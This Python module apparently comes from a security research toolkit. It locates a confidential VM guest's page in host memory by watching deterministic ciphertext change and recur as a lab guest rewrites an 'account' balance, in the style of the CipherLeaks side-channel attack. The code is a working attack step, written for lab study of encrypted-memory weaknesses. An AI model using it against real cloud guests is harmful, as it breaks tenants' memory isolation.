"""An account that a real guest keeps in one page of its page cache, and how the host finds that page.

The host does what a hostile host can do and no more. It does not know where its target lies: it finds the page by its
ciphertext, which comes back when the same text comes back (encryption is deterministic for a key and an address; Li et
al., CipherLeaks, USENIX Security 2021).
"""

import secrets as randomness

from sevkit.attacks.labs.guest_lab import GuestLab
from sevkit.attacks.notebook import Notebook
from sevkit.errors import GuestError, InconclusiveError
from sevkit.memory.sources.base import PAGE

BLOCK = 16  # bytes that the memory controller encrypts at once
RECORD = 64  # bytes of one record of the account: a page holds 64 of them
_LOOKS = 40
# Other pages would follow the account as well: the file that it was made from, buffers that were freed, the shell's own
# copy of this script. So the guest overwrites the file, lets a large buffer take the place of freed ones, and a comment
# of random length makes everything else different each time.
_SET = """
# {noise}
for n in $(seq {count}); do printf '%-{width}s\\n' '{record}'; done >/tmp/account
dd if=/tmp/account of=/root/account conv=notrunc bs={page} status=none
dd if=/dev/urandom of=/tmp/account conv=notrunc bs={page} count=1 status=none
for n in $(seq {forks}); do (:); done
dd if=/dev/zero of=/dev/null bs=8M count=1 status=none
"""


class Account:
    """One page of text, `account TOKEN balance NNNN` again and again, that the guest rewrites in place."""

    def __init__(self, lab: GuestLab) -> None:
        self._lab = lab
        self._token = randomness.token_hex(8)

    def set_balance(self, coins: int) -> None:
        """Have the guest write its account; raises GuestError when it cannot."""
        record = f"account {self._token} balance {coins:04d}"
        noise = randomness.token_hex(200 + randomness.randbelow(1500))
        forks = 1 + randomness.randbelow(4)
        script = _SET.format(noise=noise, forks=forks, count=PAGE // RECORD, width=RECORD - 1, record=record, page=PAGE)
        done = self._lab.guest.run(script)
        if done.status != 0:
            raise GuestError("the guest could not write its account", detail=done.stderr.decode(errors="replace"))

    def balance(self) -> str:
        """What the guest reads of its account: the first record, as text."""
        return self._lab.guest.run(f"head -c {RECORD} /root/account").stdout.decode("latin-1").strip()

    def page(self) -> bytes:
        """The whole page as the guest reads it."""
        return self._lab.guest.run("cat /root/account").stdout

    def find(self, note: Notebook) -> int:
        """The host address of the page: the only one that changes with the account, and comes back with it.

        The balances come in random order, so that what merely alternates is told apart. Looks again until one candidate
        is left; raises InconclusiveError with their number when that does not happen.
        """
        looks: list[int] = []  # the balance at each look that counts
        first: dict[int, dict[int, int]] = {}
        candidates: set[int] = set()
        for _ in range(_LOOKS):
            looks.append((100, 0)[len(looks)] if len(looks) < 2 else randomness.choice((100, 0)))
            self.set_balance(looks[-1])
            now = self._lab.host.fingerprints()
            if len(looks) <= 2:
                first[looks[-1]] = now
                candidates = {page for page, mark in now.items() if first[100].get(page) != mark}
                continue
            candidates = {page for page in candidates if first[looks[-1]].get(page) == now.get(page)}
            if not candidates:  # the guest has moved the page: nothing of before counts
                looks = []
            elif len(candidates) == 1 and len(looks) >= 5:
                note.host(f"After {len(looks)} looks at all of DRAM one page is left that comes back with the account.")
                return candidates.pop()
        raise InconclusiveError(_not_found(len(candidates)))


def open_account(lab: GuestLab, note: Notebook, prediction: str) -> tuple[Account, int]:
    """An account of 100 coins, and the host address of its page, which the host has found by itself."""
    note.setup(f"A real Linux guest ({lab.guest.spec.mode}, {lab.guest.provenance}) keeps an account: 100 coins.")
    note.predict(prediction)
    lab.say("looking for the page in all of DRAM")
    account = Account(lab)
    page = account.find(note)
    account.set_balance(100)
    return account, page


def _not_found(left: int) -> str:
    count = "1 candidate is" if left == 1 else f"{left} candidates are"
    return f"the account's page was not found in {_LOOKS} looks at all of DRAM: {count} left"
